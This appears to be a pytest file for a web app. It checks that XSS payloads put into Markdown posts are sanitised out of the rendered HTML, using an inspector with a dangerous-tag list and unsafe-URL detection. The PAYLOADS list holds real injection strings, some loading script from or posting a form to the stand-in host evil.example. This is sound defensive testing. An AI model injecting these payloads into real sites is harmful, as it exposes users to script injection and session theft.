"""XSS payloads in Markdown never survive into `contentHtml`."""

from html.parser import HTMLParser

import pytest

from tests.content.helpers import CREATE_POST
from tests.factories import create_user

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "![img](javascript:alert(1))",
    '<img src="x" onerror="alert(1)">',
    '<a href="#" onclick="alert(1)">x</a>',
    '<svg onload="alert(1)"><circle/></svg>',
    "<style>body { display: none }</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<iframe src="https://evil.example"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="q"></form>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "<details open ontoggle=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]
DANGEROUS_TAGS = {"script", "style", "iframe", "object", "embed", "form", "input", "svg",
                  "meta", "math", "details", "link", "base"}  # fmt: skip
SAFE_SCHEMES = ("http:", "https:", "mailto:")


class Inspector(HTMLParser):
    """Collects every tag, attribute and URL of the rendered HTML, as a browser sees them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS_TAGS:
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on") or name == "style":
                self.problems.append(f"{tag} {name}")
            if name in {"href", "src"} and not _safe_url(value or ""):
                self.problems.append(f"{tag} {name}={value}")


def _safe_url(url: str) -> bool:
    scheme = url.strip().lower().split("/", 1)[0]
    return ":" not in scheme or scheme.startswith(SAFE_SCHEMES)


def problems_in(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.problems


@pytest.mark.parametrize("payload", PAYLOADS)
async def test_xss_payloads_never_survive_into_content_html(call, db, payload):
    ada = await create_user(db)
    body = await call(
        CREATE_POST, {"input": {"title": "XSS", "content": f"Intro\n\n{payload}\n\nOutro"}},
        user=ada,
    )  # fmt: skip
    post = body["data"]["createPost"]
    html = post["contentHtml"]
    assert problems_in(html) == [], html
    assert "<script" not in html.lower()  # not even as inert markup
    assert "Intro" in html  # the text before the payload renders
    assert post["content"].endswith(f"{payload}\n\nOutro")  # kept as written


async def test_safe_links_keep_working_and_get_rel_nofollow(call, db):
    content = "[site](https://example.com) [mail](mailto:a@example.com) [plain](http://x.org)"
    body = await call(CREATE_POST, {"input": {"title": "Links", "content": content}},
                      user=await create_user(db))  # fmt: skip
    html = body["data"]["createPost"]["contentHtml"]
    assert 'href="https://example.com"' in html and 'href="mailto:a@example.com"' in html
    assert 'href="http://x.org"' in html and 'rel="nofollow noopener noreferrer"' in html


def test_the_inspector_itself_catches_each_kind_of_problem():
    html = '<script></script><a href="javascript:x" onclick="y">a</a><p style="z">p</p>'
    assert problems_in(html) == ["<script>", "a href=javascript:x", "a onclick", "p style"]
